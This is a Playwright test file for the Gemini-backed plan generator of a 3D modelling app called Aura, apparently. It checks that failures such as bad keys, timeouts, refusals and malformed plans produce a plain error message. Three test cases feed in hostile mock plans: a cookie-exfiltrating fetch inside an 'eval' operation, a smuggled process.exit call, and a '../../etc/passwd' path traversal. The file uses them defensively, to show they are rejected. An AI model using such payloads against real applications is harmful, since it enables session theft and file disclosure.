import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test as base, expect } from './fixtures.ts';
import { LIDDED, serveWith, USAGE } from './modelServer.ts';
import type { Move, StandIn } from './standins/StandIn.ts';
import { startStandIn } from './standins/servers.ts';

/** A server before a Gemini, with less patience than usual: a model that says nothing is waited for only a moment. */
const test = base.extend<object, { gemini: StandIn; server: Awaited<ReturnType<typeof serveWith>> }>({
  gemini: [
    async ({ browserName: _any }, use) => {
      const standIn = await startStandIn('gemini');
      await use(standIn);
      await standIn.stop();
    },
    { scope: 'worker' },
  ],
  server: [
    async ({ gemini }, use) => {
      const server = await serveWith({ gemini }, { environment: { AURA_DEADLINE_MS: '16000', AURA_DAILY_LIMIT_USD: '1000' } });
      await use(server);
      await server.stop();
    },
    { scope: 'worker' },
  ],
});

/** What an artist must never be told instead of a sentence. */
const TECHNICAL = /undefined|\[object|TypeError|\bat \w+ \(|stack|ECONN|ENO[A-Z]+|<html/i;

const plan = (...operations: object[]) => JSON.stringify({ name: 'Thing', operations });
const said = (text: string): Move => ({ said: { text, usage: USAGE } });
const error = (status: number, message: string, code = ''): Move => ({ raw: { status, body: { error: { message, code, status: code } } } });

/** Each with what the artist is told: what happened and what to do. */
const CASES: readonly (readonly [title: string, move: Move, told: RegExp])[] = [
  [
    'a wrong key',
    error(401, 'API key not valid. Please pass a valid API key.', 'invalid_api_key'),
    /Gemini refuses the key: check it in Settings\./,
  ],
  [
    'an unknown model',
    error(404, 'models/gemini-3-flash is not found for API version v1beta', 'NOT_FOUND'),
    /model .*choose one of its list in Settings/,
  ],
  [
    'an address that is a web page',
    { raw: { status: 200, headers: { 'content-type': 'text/html' }, body: '<!doctype html><html><h1>Hi</h1></html>' } },
    /is a web page and not Gemini: check the address/,
  ],
  ['prose', said('I would take a nice cube, and then a lid for it.'), /Gemini wrote no plan: choose another model\./],
  [
    'half a plan',
    { said: { text: LIDDED, pieces: 40, usage: USAGE }, cut: { after: 25, how: 'end' } },
    /The answer of Gemini broke off before its end: try again\./,
  ],
  ['another schema', said('{"shapes":[{"type":"sphere","r":3}],"camera":{"fov":40}}'), /Gemini wrote no plan: choose another model\./],
  [
    'an answer without end',
    { said: { text: `{"name":"${'a'.repeat(400_000)}"`, pieces: 4, usage: USAGE }, endless: true },
    /Gemini wrote no plan: choose another model\.|longer than one request|without end/,
  ],
  [
    'a model that says nothing',
    { wait: 'for ever' },
    /Gemini took longer than one request may: ask for something simpler, or choose a faster model\./,
  ],
  [
    'a refusal',
    { said: { text: '', refusal: 'No.', usage: USAGE } },
    /Gemini declined to answer this: say it in other words, or make it with the offline generator\./,
  ],
  [
    'a plan with code in it',
    said(plan({ id: 'a', op: 'eval', params: { code: 'fetch("https://example.com/"+document.cookie)' } })),
    /no operation "eval"\. Say it in other words, or choose another model\./,
  ],
  [
    'a plan with a script for a size',
    said(plan({ id: 'a', op: 'box', params: { size: ['= process.exit(1)', 20, 20] } })),
    /There is no function "process\.exit".* Say it in other words, or choose another model\./,
  ],
  [
    'a plan with paths in it',
    said(plan({ id: 'a', op: 'import_file', params: { path: '../../etc/passwd' } })),
    /no operation "import_file"\. Say it in other words, or choose another model\./,
  ],
];

test.beforeEach(async ({ gemini, page }) => {
  gemini.forget();
  await page.getByTestId('aura-writer').selectOption('gemini');
});

for (const [title, move, told] of CASES)
  test(`${title} is a sentence that says what to do; scene and chat are as before`, async ({ aura, page, gemini }) => {
    gemini.always = move;
    const before = await aura.scene();
    const turn = await aura.say('a cube of 20 mm with a lid');
    await expect(turn.locator('.AuraCard')).toHaveClass(/failed/);
    await expect(turn.locator('.error')).toHaveText(told);
    expect(await turn.locator('.AuraCard').textContent()).not.toMatch(TECHNICAL);
    expect(await aura.scene()).toEqual(before);
    await aura.tab('history');
    await expect(aura.history.getByTestId('history-entry')).toHaveCount(0);
    await expect(aura.prompt).toBeEditable();
    await expect(page.getByTestId('aura-again')).toBeVisible();
  });

test('where a model cannot be reached, the sentence says so, and the offline generator still answers', async ({ page, aura, gemini }) => {
  gemini.always = { reset: true };
  const turn = await aura.say('a cube of 20 mm');
  await expect(turn.locator('.error')).toHaveText(/Gemini does not answer at .*: check the network\./);
  await aura.picture('chat-unreachable');
  await page.getByTestId('aura-writer').selectOption('auto');
  const made = await aura.make('a cube of 20 mm');
  await expect(made.locator('.failure')).toContainText('Gemini');
  await expect(made.getByTestId('aura-by')).toHaveText('offline generator');
});

test('a key that cannot be stored is said to be none, and why', async ({ page, aura }) => {
  const folder = await mkdtemp(join(tmpdir(), 'aura-blocked-'));
  const home = join(folder, 'aura');
  const blocked = await serveWith({}, { environment: { AURA_HOME: home } });
  // Where the folder of the settings would be made stands a file by now: nothing can be written there.
  await writeFile(home, '');
  try {
    await aura.open(blocked.url);
    await page.keyboard.press('Control+,');
    await page.getByTestId('tab-aura-providers').click();
    await page.getByTestId('aura-provider-anthropic').locator('summary .name').click();
    await page.getByTestId('aura-key-anthropic').fill('sk-ant-0123456789');
    await page.getByTestId('aura-key-save-anthropic').click();
    await expect(page.getByTestId('aura-providers-message')).toContainText(
      /settings\.json cannot be written \(a file is where its folder should be: move it away\); what it held before is still there/,
    );
    await expect(page.getByTestId('aura-provider-anthropic')).toContainText('Needs a key');
    await aura.picture('providers-cannot-store');
  } finally {
    await blocked.stop();
    await rm(folder, { recursive: true, force: true });
  }
});
